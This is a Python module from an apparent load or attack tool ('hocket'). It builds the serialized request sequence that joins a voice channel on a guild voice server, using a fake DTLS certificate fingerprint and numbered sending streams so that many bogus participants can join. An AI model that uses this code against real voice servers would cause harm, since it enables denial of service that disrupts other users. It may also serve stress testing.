"""An attacker's requests: the steps of a join, with the fingerprint of a certificate that nobody has."""

from __future__ import annotations

from hocket.attack.target import Target
from hocket.load import shapes
from hocket.load.stream import Request, Stream
from hocket.proto import voice

_FINGERPRINT = [("sha-256", ":".join(["AB"] * 32))]
_FIRST_SSRC = 1_000


def initialize(target: Target) -> bytes:
    """The first request, for the attackers' channel."""
    asked = Request.Initialize(guild_id=target.options.guild, channel_id=target.channel)
    return Request(initialize=asked).SerializeToString()


def prepare(capabilities: str) -> bytes:
    """The second request, with whatever text."""
    asked = Request.PrepareForJoinChannel(rtp_capabilities=capabilities)
    return Request(prepare_for_join_channel=asked).SerializeToString()


def join(number: int, *, speaks: bool) -> bytes:
    """The third request."""
    ours = shapes.dtls_parameters(_FINGERPRINT)
    asked = Request.JoinChannel(consumer_dtls_paramaters=ours)
    if speaks:
        asked.rtp_paramaters = shapes.sending(_FIRST_SSRC + number).rtp_parameters
        asked.producer_dtls_paramaters = ours
    return Request(join_channel=asked).SerializeToString()


def resume(consumer: str) -> bytes:
    """The fourth request."""
    return Request(resume_consumer=Request.ResumeConsumer(consumer_id=consumer)).SerializeToString()


async def whole_join(
    stream: Stream, target: Target, number: int, *, speaks: bool
) -> voice.StreamMessageResponse.JoinedChannel:
    """All steps up to JoinedChannel, of which it gives the server's.

    Raises:
        StreamError: the server refused, or does not answer.
        ShapeError: the server's JSON is none.
    """
    await stream.send_bytes(initialize(target))
    router = (await stream.expect("initialized")).initialized.rtp_capabilities
    await stream.send_bytes(prepare(shapes.receiving(router)))
    await stream.expect("prepared_for_join_channel")
    await stream.send_bytes(join(number, speaks=speaks))
    return (await stream.expect("joined_channel")).joined_channel
